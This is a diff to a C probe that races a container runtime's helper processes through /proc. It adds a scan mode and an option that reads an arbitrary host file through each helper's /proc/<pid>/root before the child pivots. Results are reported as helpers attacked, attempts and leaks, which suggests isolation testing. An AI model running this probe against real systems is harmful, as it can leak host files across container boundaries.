@@ -11,8 +11,19 @@
  *                           no pid namespace of its own: the children of the runtime (pid
  *                           RUNTIME) that run the helper are attacked (the helper and the
  *                           process it clones: CLONE_PARENT makes both the runtime's)
+ *   helper_probe scan DONE 0
+ *                           the same for every helper of the namespace whose /proc/<pid>
+ *                           is this probe's euid's (a dumpable process of its uid: without
+ *                           CAP_SYS_PTRACE it can reach no other), whoever's child it is,
+ *                           each for at most 2 s (another process may look like one)
+ *
+ * With PROBE_HOST_FILE=PATH in its environment, the probe also reads PATH through each
+ * target's /proc/<pid>/root (a helper's root is the host's until the child pivots).
  *
  * Both run until the file DONE exists, then print:
+ *   helper PID COMM owner=UID levels=N
+ *                      a helper attacked (the owner of its /proc/<pid>, and in how many pid
+ *                      namespaces it has a pid, from this probe's down), once
  *   helpers N          distinct helper pids attacked while they were the helper
  *   attempts N         rounds of every attack that ran while the target was the helper
  *   leak WHAT PID X    an attack that succeeded on the helper (X: what it got)
@@ -29,11 +40,14 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static long helpers, attempts, leaks;
+static int bounded; /* scan DONE 0: at most 2 s on one pid */
 static int seen[65536];
 
 static int read_small(const char *path, char *buf, size_t size)
@@ -134,6 +148,12 @@ static void attack(int pid)
 	for (const char *l = "exe\0cwd\0root\0"; *l; l += strlen(l) + 1)
 		if (link_of(pid, l, buf, sizeof(buf)) == 0)
 			got(pid, l, buf);
+	if (getenv("PROBE_HOST_FILE")) {
+		char host[512];
+		snprintf(host, sizeof(host), "/proc/%d/root%s", pid, getenv("PROBE_HOST_FILE"));
+		if (read_small(host, buf, sizeof(buf)) > 0)
+			got(pid, "hostfile", buf);
+	}
 	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
 	d = opendir(path);
 	if (d) {
@@ -156,12 +176,43 @@ static void attack(int pid)
 	}
 }
 
+/* The owner of /proc/<pid> as this probe sees it: a dumpable process's is its euid, a
+ * non-dumpable one's is root of the user namespace its memory belongs to. */
+static int owner_of(int pid)
+{
+	char path[64];
+	struct stat st;
+
+	snprintf(path, sizeof(path), "/proc/%d", pid);
+	return stat(path, &st) < 0 ? -1 : (int)st.st_uid;
+}
+
+/* How many pid namespaces from this probe's down the target has a pid in (NSpid). */
+static int levels_of(int pid)
+{
+	char path[64], buf[2048], *p;
+	int n = 0;
+
+	snprintf(path, sizeof(path), "/proc/%d/status", pid);
+	if (read_small(path, buf, sizeof(buf)) < 0 || !(p = strstr(buf, "\nNSpid:")))
+		return -1;
+	for (p += 7; *p && *p != '\n'; p++)
+		if (isdigit((unsigned char)*p) && !isdigit((unsigned char)p[1]))
+			n++;
+	return n;
+}
+
 /* Attacks pid for as long as it is the helper. */
 static void siege(int pid)
 {
 	char before[64], after[64];
+	struct timespec t0, t;
 
+	clock_gettime(CLOCK_MONOTONIC, &t0);
 	for (;;) {
+		clock_gettime(CLOCK_MONOTONIC, &t);
+		if (bounded && t.tv_sec - t0.tv_sec >= 2)
+			return;
 		if (comm_of(pid, before, sizeof(before)) < 0 || !helper_comm(before))
 			return;
 		attack(pid);
@@ -170,7 +221,8 @@ static void siege(int pid)
 		if (pid < 65536 && !seen[pid]) {
 			seen[pid] = 1;
 			helpers++;
-			printf("helper %d %s\n", pid, before);
+			printf("helper %d %s owner=%d levels=%d\n", pid, before, owner_of(pid),
+			       levels_of(pid));
 			fflush(stdout);
 		}
 		attempts++;
@@ -192,7 +244,8 @@ static int scan(int parent)
 		int pid = atoi(e->d_name);
 		if (pid <= 1 || (parent > 0 && ppid_of(pid) != parent) ||
 		    (parent == 0 && pid < 65536 && seen[pid]) ||
-		    comm_of(pid, comm, sizeof(comm)) < 0 || !helper_comm(comm))
+		    comm_of(pid, comm, sizeof(comm)) < 0 || !helper_comm(comm) ||
+		    (bounded && owner_of(pid) != (int)geteuid()))
 			continue;
 		siege(pid);
 		if (pid > top)
@@ -232,6 +285,7 @@ int main(int argc, char **argv)
 			}
 			siege(next++);
 		} else if (argc == 4) {
+			bounded = atoi(argv[3]) == 0;
 			scan(atoi(argv[3]));
 		}
 	}
